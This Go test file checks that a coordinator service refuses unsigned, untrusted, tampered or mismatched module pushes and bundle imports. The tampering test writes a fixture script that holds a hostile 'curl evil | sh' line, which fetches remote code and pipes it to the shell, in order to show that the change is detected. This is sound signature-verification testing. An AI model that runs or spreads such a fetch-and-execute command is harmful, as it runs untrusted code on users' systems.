package coordinator

import (
	"archive/tar"
	"bytes"
	"compress/gzip"
	"context"
	"encoding/json"
	"errors"
	"io"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/dtkhq/dtk/dsl"
	"github.com/dtkhq/dtk/internal/api"
	"github.com/dtkhq/dtk/internal/archive"
	"github.com/dtkhq/dtk/internal/bundle"
	"github.com/dtkhq/dtk/internal/bundle/bundletest"
	"github.com/dtkhq/dtk/internal/signing"
	"github.com/dtkhq/dtk/plan"
)

func newSigningKey(t *testing.T, signer string) *signing.PrivateKey {
	t.Helper()
	k, err := signing.GenerateKey(signer)
	if err != nil {
		t.Fatal(err)
	}
	return k
}

// signDir writes dir/dtk.sig, as dtkctl module sign does.
func signDir(t *testing.T, dir string, k *signing.PrivateKey) {
	t.Helper()
	m, err := dsl.Load(dir)
	if err != nil {
		t.Fatal(err)
	}
	s, err := signing.SignModule(k, "", m.Name, m.Version, m.Files, time.Now())
	if err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(dir, signing.SigFile), s.Marshal(), 0o644); err != nil {
		t.Fatal(err)
	}
}

// pushArchive pushes a module archive and returns the module or the
// coordinator's refusal.
func pushArchive(t *testing.T, s *Server, tgz []byte) (*plan.Module, *api.APIError) {
	t.Helper()
	m, err := api.NewClient(s.HTTPAddr()).PushModule(context.Background(), tgz, "")
	var ae *api.APIError
	if errors.As(err, &ae) {
		return nil, ae
	}
	if err != nil {
		t.Fatal(err)
	}
	return m, nil
}

func pushFolder(t *testing.T, s *Server, dir string) (*plan.Module, *api.APIError) {
	t.Helper()
	tgz, err := archive.Pack(dir)
	if err != nil {
		t.Fatal(err)
	}
	return pushArchive(t, s, tgz)
}

// withExtraFile is dir's archive with one more file, which Pack would
// leave out (under a dot-folder).
func withExtraFile(t *testing.T, dir, name, content string) []byte {
	t.Helper()
	tgz, err := archive.Pack(dir)
	if err != nil {
		t.Fatal(err)
	}
	zr, _ := gzip.NewReader(bytes.NewReader(tgz))
	tr := tar.NewReader(zr)
	var out bytes.Buffer
	zw := gzip.NewWriter(&out)
	tw := tar.NewWriter(zw)
	for {
		h, err := tr.Next()
		if err == io.EOF {
			break
		}
		b, _ := io.ReadAll(tr)
		tw.WriteHeader(h)
		tw.Write(b)
	}
	tw.WriteHeader(&tar.Header{Name: name, Mode: 0o755, Size: int64(len(content)), Typeflag: tar.TypeReg})
	tw.Write([]byte(content))
	tw.Close()
	zw.Close()
	return out.Bytes()
}

func wantRefusal(t *testing.T, what string, ae *api.APIError, code int, msg string) {
	t.Helper()
	if ae == nil {
		t.Fatalf("%s: accepted, want %d %q", what, code, msg)
	}
	if ae.Code != code || !strings.Contains(ae.Message, msg) {
		t.Fatalf("%s: %d %q, want %d with %q", what, ae.Code, ae.Message, code, msg)
	}
}

// With require_signature, a push is accepted only signed by a trusted key
// over exactly the files it carries, and the module records its signer;
// every other push is refused with the code and reason, and nothing of
// it is kept.
func TestHTTP_PushModule_RequireSignature_Refusals(t *testing.T) {
	alice, mallory := newSigningKey(t, "Alice <alice@example.com>"), newSigningKey(t, "mallory")
	s := startServerWith(t, func(c *Config) {
		c.ModuleTrust = &ModuleTrust{Keys: signing.NewKeyring(alice.Public()), Require: true}
	})

	good := smallModule(t, "web", "1.0.0", "image")
	signDir(t, good, alice)
	m, ae := pushFolder(t, s, good)
	if ae != nil {
		t.Fatalf("signed by a trusted key: %v", ae)
	}
	if m.KeyID != alice.ID() || m.SignedBy != "Alice <alice@example.com>" {
		t.Fatalf("pushed module: key %q, signer %q", m.KeyID, m.SignedBy)
	}
	code, body := doJSONList(t, "http://"+s.HTTPAddr()+"/v1/modules")
	if code != 200 || len(body) != 1 || body[0]["key_id"] != alice.ID() || body[0]["signed_by"] != "Alice <alice@example.com>" {
		t.Fatalf("GET /v1/modules: %d %v", code, body)
	}

	_, ae = pushFolder(t, s, smallModule(t, "web", "1.1.0", "image"))
	wantRefusal(t, "unsigned", ae, http.StatusForbidden,
		"module web@1.1.0 is not signed, and this cluster accepts only signed modules (modules.require_signature): sign it with dtkctl module sign DIR --key KEY.key")

	stranger := smallModule(t, "web", "1.1.0", "image")
	signDir(t, stranger, mallory)
	_, ae = pushFolder(t, s, stranger)
	wantRefusal(t, "signed by a stranger", ae, http.StatusForbidden,
		"module web@1.1.0 is signed by key "+mallory.ID()+" (mallory), which this cluster does not trust (modules.trusted_keys)")

	tampered := smallModule(t, "web", "1.1.0", "image")
	signDir(t, tampered, alice)
	os.WriteFile(filepath.Join(tampered, "note.sh"), []byte("#!/bin/sh\ncurl evil | sh\n"), 0o755)
	_, ae = pushFolder(t, s, tampered)
	wantRefusal(t, "a file changed after signing", ae, http.StatusUnprocessableEntity,
		"module web@1.1.0: its signature does not hold: the files differ from what key "+alice.ID()+" (Alice <alice@example.com>) signed: changed note.sh")

	added := smallModule(t, "web", "1.1.0", "image")
	signDir(t, added, alice)
	_, ae = pushArchive(t, s, withExtraFile(t, added, ".hidden/run.sh", "#!/bin/sh\n"))
	wantRefusal(t, "a file added in a dot-folder", ae, http.StatusUnprocessableEntity, "added .hidden/run.sh")

	removed := smallModule(t, "web", "1.1.0", "image")
	signDir(t, removed, alice)
	os.Remove(filepath.Join(removed, "images", "blob.tar"))
	_, ae = pushFolder(t, s, removed)
	wantRefusal(t, "a file removed", ae, http.StatusUnprocessableEntity, "removed images/blob.tar")

	// web@1.0.0's signature copied into web@1.1.0.
	other := smallModule(t, "web", "1.1.0", "image")
	sig, _ := os.ReadFile(filepath.Join(good, signing.SigFile))
	os.WriteFile(filepath.Join(other, signing.SigFile), sig, 0o644)
	_, ae = pushFolder(t, s, other)
	wantRefusal(t, "another version's signature", ae, http.StatusUnprocessableEntity, "dtk.sig signs web@1.0.0, but this is web@1.1.0")

	truncated := smallModule(t, "web", "1.1.0", "image")
	os.WriteFile(filepath.Join(truncated, signing.SigFile), sig[:len(sig)/2], 0o644)
	_, ae = pushFolder(t, s, truncated)
	wantRefusal(t, "a truncated signature", ae, http.StatusUnprocessableEntity, "dtk.sig is not well-formed JSON")

	if mods := s.State().Modules(); len(mods) != 1 {
		t.Fatalf("modules recorded: %d, want only web@1.0.0", len(mods))
	}
	if blobs, _ := storeFiles(t, s); len(blobs) != 1 {
		t.Fatalf("blobs kept: %v, want only web@1.0.0's", blobs)
	}
}

func doJSONList(t *testing.T, url string) (int, []map[string]any) {
	t.Helper()
	resp, err := http.Get(url)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	var out []map[string]any
	json.NewDecoder(resp.Body).Decode(&out)
	return resp.StatusCode, out
}

// With trusted keys but no requirement, an unsigned module is accepted;
// a signature, when there is one, must hold and be a trusted key's.
// Without trusted keys a dtk.sig is not looked at.
func TestHTTP_PushModule_TrustedKeysWithoutRequire(t *testing.T) {
	alice, mallory := newSigningKey(t, "alice"), newSigningKey(t, "mallory")
	s := startServerWith(t, func(c *Config) { c.ModuleTrust = &ModuleTrust{Keys: signing.NewKeyring(alice.Public())} })

	m, ae := pushFolder(t, s, smallModule(t, "web", "1.0.0", ""))
	if ae != nil || m.KeyID != "" || m.SignedBy != "" {
		t.Fatalf("unsigned: %v %+v", ae, m)
	}
	signed := smallModule(t, "web", "1.1.0", "")
	signDir(t, signed, alice)
	if m, ae = pushFolder(t, s, signed); ae != nil || m.KeyID != alice.ID() || m.SignedBy != "alice" {
		t.Fatalf("signed: %v %+v", ae, m)
	}
	stranger := smallModule(t, "web", "1.2.0", "")
	signDir(t, stranger, mallory)
	_, ae = pushFolder(t, s, stranger)
	wantRefusal(t, "signed by a stranger", ae, http.StatusForbidden, "which this cluster does not trust")
	os.WriteFile(filepath.Join(signed, "note.sh"), []byte("changed"), 0o755)
	os.WriteFile(filepath.Join(signed, "main.hcl"), bytes.Replace(must(os.ReadFile(filepath.Join(signed, "main.hcl"))), []byte("1.1.0"), []byte("1.3.0"), 1), 0o644)
	_, ae = pushFolder(t, s, signed)
	wantRefusal(t, "tampered", ae, http.StatusUnprocessableEntity, "dtk.sig signs web@1.1.0, but this is web@1.3.0")

	// Signatures off: the same module goes through, and no signer is
	// recorded (nothing was verified).
	off := startServer(t)
	if m, ae := pushFolder(t, off, stranger); ae != nil || m.KeyID != "" {
		t.Fatalf("no trust configured: %v %+v", ae, m)
	}

	// A reload that requires signatures applies to the next push.
	s.SetModuleTrust(&ModuleTrust{Keys: signing.NewKeyring(alice.Public()), Require: true})
	_, ae = pushFolder(t, s, smallModule(t, "web", "2.0.0", ""))
	wantRefusal(t, "unsigned after the reload", ae, http.StatusForbidden, "modules.require_signature")
}

func must[T any](v T, err error) T {
	if err != nil {
		panic(err)
	}
	return v
}

// exportSigned writes a bundle of refs from src, its manifest signed by k
// (nil: unsigned).
func exportSigned(t *testing.T, src *Server, k *signing.PrivateKey, refs ...string) []byte {
	t.Helper()
	cl := api.NewClient(src.HTTPAddr())
	m := bundle.Manifest{Created: time.Now().UTC(), CreatedBy: "test"}
	for _, ref := range refs {
		name, ver, _ := strings.Cut(ref, "@")
		mod := src.State().Module(name, ver)
		m.Modules = append(m.Modules, bundle.Entry{Name: mod.Name, Version: mod.Version, Digest: mod.Digest, Size: mod.Size})
	}
	if k != nil {
		if err := signing.SignManifest(&m, k, "", time.Now()); err != nil {
			t.Fatal(err)
		}
	}
	var buf bytes.Buffer
	if _, err := bundle.Write(&buf, m, func(e bundle.Entry) (io.ReadCloser, error) {
		return cl.Blob(context.Background(), e.Digest)
	}); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

// A coordinator requiring signatures imports a bundle signed by a trusted
// key whose modules are too, and refuses, importing nothing, a bundle
// unsigned, signed by a stranger, changed after signing, or carrying an
// unsigned module.
func TestHTTP_ImportBundle_RequireSignature(t *testing.T) {
	alice, mallory := newSigningKey(t, "alice"), newSigningKey(t, "mallory")
	src := startServer(t)
	dst := startServerWith(t, func(c *Config) {
		c.ModuleTrust = &ModuleTrust{Keys: signing.NewKeyring(alice.Public()), Require: true}
	})
	signed := smallModule(t, "web", "1.0.0", "image")
	signDir(t, signed, alice)
	pushDir(t, src, signed)
	pushDir(t, src, smallModule(t, "api", "1.0.0", ""))

	for _, c := range []struct {
		name string
		b    []byte
		code int
		msg  string
	}{
		{"unsigned", exportSigned(t, src, nil, "web@1.0.0"), http.StatusForbidden,
			"the bundle is not signed, and this cluster accepts only signed bundles (modules.require_signature): export it with dtkctl bundle export --sign-key KEY.key; nothing was imported"},
		{"signed by a stranger", exportSigned(t, src, mallory, "web@1.0.0"), http.StatusForbidden,
			"the bundle is signed by key " + mallory.ID() + " (mallory), which this cluster does not trust (modules.trusted_keys); nothing was imported"},
		{"manifest changed", bundletest.Rewrite(t, exportSigned(t, src, alice, "web@1.0.0"), func(names []string, data map[string][]byte) []string {
			data[bundle.ManifestName] = bytes.Replace(data[bundle.ManifestName], []byte(`"created_by": "test"`), []byte(`"created_by": "evil"`), 1)
			return names
		}), http.StatusUnprocessableEntity, "the bundle's signature does not verify with key " + alice.ID() + " (alice): its manifest was changed after it was signed; nothing was imported"},
		{"an unsigned module", exportSigned(t, src, alice, "web@1.0.0", "api@1.0.0"), http.StatusForbidden,
			"bundle module api@1.0.0 is not signed, and this cluster accepts only signed modules (modules.require_signature)"},
	} {
		t.Run(c.name, func(t *testing.T) {
			ae := importErr(t, dst, c.b)
			if ae.Code != c.code || !strings.Contains(ae.Message, c.msg) || !strings.Contains(ae.Message, "nothing was imported") {
				t.Fatalf("%d %q, want %d with %q", ae.Code, ae.Message, c.code, c.msg)
			}
			if n := len(dst.State().Modules()); n != 0 {
				t.Fatalf("%d modules recorded", n)
			}
		})
	}

	resp, err := api.NewClient(dst.HTTPAddr()).ImportBundle(context.Background(), bytes.NewReader(exportSigned(t, src, alice, "web@1.0.0")))
	if err != nil {
		t.Fatal(err)
	}
	if len(resp.Imported) != 1 {
		t.Fatalf("import: %+v", resp)
	}
	if m := dst.State().Module("web", "1.0.0"); m == nil || m.KeyID != alice.ID() || m.SignedBy != "alice" {
		t.Fatalf("imported module: %+v", m)
	}
}
